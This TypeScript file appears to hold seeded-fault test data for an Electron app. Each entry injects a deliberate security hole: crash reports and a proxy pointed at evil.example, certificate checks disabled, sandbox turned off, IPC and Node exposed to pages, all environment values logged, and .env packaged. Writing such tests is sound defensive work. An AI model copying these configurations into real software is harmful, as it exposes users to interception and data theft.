/** Bad configurations of the app as a whole: its start, its memory, its bridges and its package. */
import { borrow, early, file, late, main, type Plant } from './plant-kit.ts';

const desk = file('desk preload');
const pay = file('pay preload');
const config = file('config');

export const appPlants: readonly Plant[] = [
  // The app.
  late('21', 'a crash reporter', `${borrow('crashReporter')}.start({ submitURL: "https://evil.example/" });`),
  late('21', 'a log of the network', `${borrow('netLog')}.startLogging("/x");`),
  main('26', 'two copies', 'if (!app.requestSingleInstanceLock()) return false;', ''),
  main('26', 'the first copy stays behind', 'app.on("second-instance", () => onSecond());', ''),
  main(
    '26',
    'a second copy goes on',
    'if (!app.requestSingleInstanceLock()) return false;',
    'app.requestSingleInstanceLock();',
    'second',
  ),
  main(
    '27',
    'a debugger in the worker',
    'utilityProcess.fork(file, [], {',
    'utilityProcess.fork(file, [], { execArgv: ["--inspect"],',
  ),
  main('27', 'our variables in the worker', 'stdio: "ignore",\n\t\t\tenv: {}', 'stdio: "ignore"'),
  late('27', 'scripts put into pages', 'app.on("web-contents-created", (_event, one) => one.executeJavaScript("1"));'),
  late('27', 'a debugger attached', 'app.on("web-contents-created", (_event, one) => one.debugger.attach());'),
  early('28', 'a protocol of its own', 'app.setAsDefaultProtocolClient("tillside", process.execPath, ["--open"]);'),
  early('28', 'starts with the system', 'app.setLoginItemSettings({ openAtLogin: true });'),
  early('29', 'a switch appended', 'app.commandLine.appendSwitch("disable-features", "X");'),
  early('29', 'page state in another folder', 'app.setPath("sessionData", "/tmp/x");'),
  late(
    '29',
    'certificates are not checked',
    'app.on("session-created", (one) => one.setCertificateVerifyProc((_request, callback) => callback(0)));',
  ),
  late('29', 'a proxy', 'app.on("session-created", (one) => one.setProxy({ proxyRules: "evil.example" }));'),
  { ...main('31', 'core dumps', 'if (process.platform !== "linux") return 0;', 'return 0;'), fresh: true },
  main('31', 'SIGUSR1 opens the debugger', '\t\tprocess.on(signal, () => {});\n', ''),
  main('31', 'reports are written', 'reportOnFatalError: false', 'reportOnFatalError: true'),
  main('34', 'dangerous switches are not looked for', 'if (start.refused)', 'if (false)', 'refusals'),
  main('34', 'space in front of a switch', 'argument.trim()) ?? ', 'argument) ?? ', 'refusals'),
  main('34', 'unknown switches', '...unknown\n', '', 'refusals'),
  main(
    '34',
    'TLS keys in a file',
    'var NEVER_VARIABLES = ["NODE_TLS_REJECT_UNAUTHORIZED", "SSLKEYLOGFILE"]',
    'var NEVER_VARIABLES = []',
    'refusals',
  ),
  main('34', 'no line in the log', '.info("start.refused", danger);', '.info("start", danger);', 'refusals'),
  main(
    '34',
    'the value in the log',
    '.info("start.refused", danger);',
    '.info("start.refused", { ...danger, all: [...process.argv, ...Object.values(process.env)].join(" ") });',
    'refusals',
  ),
  main('34', 'a renamed program', '/\\.asar(\\/|$)/.test(facts.bundle)', 'false', 'refusals'),
  // Bridges.
  desk('20', 'the whole of ipcRenderer', 'call: (name', 'ipc: electron.ipcRenderer, call: (name'),
  desk(
    '20',
    'the page chooses the channel',
    'electron.ipcRenderer.invoke("desk:call", name, input)',
    'electron.ipcRenderer.invoke(name, input)',
  ),
  desk(
    '20',
    'the event crosses',
    '(_event, name, payload) => listener(name, payload)',
    '(event, name, payload) => listener(event, name, payload)',
  ),
  desk(
    '20',
    'the sender is answered',
    'return () => void electron.ipcRenderer.removeListener("desk:event", forward);',
    'return { sender: electron.ipcRenderer };',
  ),
  desk(
    '20',
    'a second name in the world',
    'electron.contextBridge.exposeInMainWorld("desk", {',
    'electron.contextBridge.exposeInMainWorld("os", {}); electron.contextBridge.exposeInMainWorld("desk", {',
  ),
  pay(
    '20',
    'Node in the payment page',
    'let electron = require("electron");',
    'let electron = require("electron"); require("fs");',
  ),
  pay(
    '20',
    'the payment page asks as the desk',
    'electron.ipcRenderer.send("pay:tell", kind, data)',
    'electron.ipcRenderer.send("desk:call", kind, data)',
  ),
  pay(
    '20',
    'a synchronous question',
    'listen: (listener) => {',
    'ask: () => electron.ipcRenderer.sendSync("electron-store-get-data"), listen: (listener) => {',
  ),
  // Package.
  ...[
    'runAsNode',
    'enableNodeOptionsEnvironmentVariable',
    'enableNodeCliInspectArguments',
    'grantFileProtocolExtraPrivileges',
  ].map(fuse => config('19', `the fuse ${fuse}`, `  ${fuse}: false`, `  ${fuse}: true`)),
  ...['enableCookieEncryption', 'enableEmbeddedAsarIntegrityValidation', 'onlyLoadAppFromAsar'].map(fuse =>
    config('19', `the fuse ${fuse}`, `  ${fuse}: true\n`, ''),
  ),
  config('19', 'fuses are not read afterwards', 'afterAllArtifactBuild: scripts/packaging/check-fuses.mjs', ''),
  config('33', 'no archive', 'asar: true', 'asar: false'),
  config('33', 'bundles outside the archive', 'asarUnpack:\n', "asarUnpack:\n  - 'dist/**'\n"),
  config('33', 'no hardened runtime', 'hardenedRuntime: true', 'hardenedRuntime: false'),
  config('33', 'the usual entitlements', '  entitlements: scripts/packaging/entitlements.mac.plist\n', ''),
  config('33', 'a kind of file', 'asar: true', 'asar: true\nfileAssociations:\n  - ext: till\n    name: Till'),
  config('33', 'a protocol', 'asar: true', 'asar: true\nprotocols:\n  - name: Till\n    schemes: [till]'),
  config('33', 'started without a sandbox', '  executableArgs: []', "  executableArgs: ['--no-sandbox']"),
  config('33', 'the sandbox is left to the packager', 'appImage:\n  executableArgs: []\n', ''),
  config('33', 'files beside the archive', 'asar: true', 'asar: true\nextraResources:\n  - dist/main/browser'),
  config('33', 'uninstalling takes the ledger', 'deleteAppDataOnUninstall: false', 'deleteAppDataOnUninstall: true'),
  file('entitlements')(
    '33',
    'foreign libraries on macOS',
    '<key>com.apple.security.cs.allow-jit</key>',
    '<key>com.apple.security.cs.disable-library-validation</key>\n<true/>\n<key>com.apple.security.cs.allow-jit</key>',
  ),
  config('32', 'source maps', "  - '!**/*.map'\n", ''),
  config('32', 'the whole folder', '  - dist/**\n', "  - '**/*'\n"),
  config('32', 'a folder of data', '  - dist/**\n', '  - dist/**\n  - ledger/**\n'),
  config('32', 'the environment file', '  - dist/**\n', '  - dist/**\n  - .env\n'),
];
